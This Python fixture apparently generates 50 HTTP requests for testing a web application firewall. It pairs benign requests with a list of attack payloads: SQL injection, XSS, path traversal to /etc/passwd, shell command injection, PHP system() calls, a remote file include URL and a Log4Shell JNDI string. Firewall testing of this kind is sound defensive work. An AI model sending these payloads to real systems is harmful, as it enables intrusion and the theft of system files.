# SPDX-License-Identifier: Apache-2.0
"""The 50 transactions: (name, method, target, fields, body). The backend answers as the path says: /STATUS/KIND."""
import json

FORM = "application/x-www-form-urlencoded"
BOUNDARY = "xyz0123456789"


def part(name, content, filename=None, kind="text/plain"):
    head = f'Content-Disposition: form-data; name="{name}"'
    if filename is not None:
        head += f'; filename="{filename}"\r\nContent-Type: {kind}'
    return f"--{BOUNDARY}\r\n{head}\r\n\r\n{content}\r\n"


def multipart(*parts):
    return "".join(parts) + f"--{BOUNDARY}--\r\n"


def transactions():
    found = []

    def add(name, target, fields=(), body=None, method=None, kind=None):
        head = [("Host", "shop.example"), ("User-Agent", "Mozilla/5.0 (audit)"), ("Accept", "*/*"), *fields]
        if body is not None:
            body = body.encode() if isinstance(body, str) else body
            head += [("Content-Type", kind or FORM), ("Content-Length", str(len(body)))]
        found.append((name, method or ("GET" if body is None else "POST"), target, head, body))

    # refused by the CRS
    attacks = {
        "sqli": "1'+or+'1'='1", "union": "1+union+select+password+from+users", "sleep": "1;select+sleep(10)--",
        "xss": "%3Cscript%3Ealert(1)%3C/script%3E", "onerror": "%3Cimg+src=x+onerror=alert(1)%3E",
        "javascript": "javascript:alert(document.cookie)", "traversal": "../../../../etc/passwd",
        "windows": "..%5C..%5Cwindows%5Cwin.ini", "shell": ";cat+/etc/passwd", "backtick": "%60id%60",
        "php": "%3C?php+system('id');?%3E", "wrapper": "php://filter/resource=index.php", "rfi": "http://10.0.0.1/shell.txt?",
        "java": "java.lang.Runtime", "log4shell": "$%7Bjndi:ldap://x/a%7D", "node": "process.mainModule.require('child_process')",
    }
    for name, text in attacks.items():
        add(f"query {name}", f"/200/html?q={text}")
    for name in ("sqli", "xss", "traversal", "shell", "php"):
        add(f"form {name}", "/200/html", body=f"a=1&q={attacks[name]}")
    for name, text in (("sqli", "1' or '1'='1"), ("xss", "<script>alert(1)</script>"), ("shell", ";cat /etc/passwd")):
        add(f"json {name}", "/200/html", body=json.dumps({"a": 1, "q": [text]}), kind="application/json")
        add(f"multipart {name}", "/200/html", body=multipart(part("a", "1"), part("q", text)),
            kind=f"multipart/form-data; boundary={BOUNDARY}")
    add("cookie xss", "/200/html", [("Cookie", "a=1; b=<script>alert(1)</script>")])
    add("agent sqlmap", "/200/html", [("Referer", "http://shop.example/?q=<script>alert(1)</script>")])
    add("scanner", "/200/html?q=/etc/shadow", [("X-Scanner", "nikto")])

    # honest, and logged for their status alone
    for status in (400, 410, 429, 500, 502, 503):
        add(f"status {status}", f"/{status}/html?page=2&sort=name")
    add("status json", "/500/json?page=2")
    add("status plain", "/503/plain")
    add("status empty", "/500/empty")
    add("form honest", "/500/html", body="name=Anna&city=Oslo&text=good+morning")
    add("form bytes", "/500/html", body="name=%C3%85se&x=%00%01&y=%22%5C")
    add("json honest", "/500/json", body=json.dumps({"name": "Anna", "tags": ["a", "b"], "n": {"m": None}}), kind="application/json")
    add("multipart honest", "/500/html", body=multipart(part("name", "Anna"), part("f", "hello\r\nworld", "x.txt")),
        kind=f"multipart/form-data; boundary={BOUNDARY}")
    add("multipart two files", "/500/html", body=multipart(part("f", "a" * 500, "a.txt"), part("g", "b", "b.txt")),
        kind=f"multipart/form-data; boundary={BOUNDARY}")
    add("fields", "/500/html", [("Cookie", "sid=1; theme=dark"), ("Accept-Language", "nb,en;q=0.5"), ("X-Quote", 'a "b" \\c')])
    add("put", "/500/html", body="a=1", method="DELETE")

    # what answers say
    add("answer sql error", "/200/sqlerror")
    add("answer php error", "/200/phperror")
    add("answer directory", "/200/directory")
    add("answer set-cookie", "/500/cookies")
    assert len(found) == 50, len(found)
    return found


ANSWERS = {
    "html": ("text/html", b"<html><body>hello</body></html>"),
    "json": ("application/json", b'{"answer": 42}'),
    "plain": ("text/plain", b"plain text\n"),
    "empty": ("text/html", b""),
    "sqlerror": ("text/html", b"<p>You have an error in your SQL syntax; check the manual that corresponds to your MySQL server</p>"),
    "phperror": ("text/html", b"<b>Warning</b>: fopen() expects parameter 1 in <b>/var/www/index.php</b> on line <b>1</b>"),
    "directory": ("text/html", b"<html><title>Index of /files</title><h1>Index of /files</h1></html>"),
    "cookies": ("text/html", b"<p>two</p>"),
}
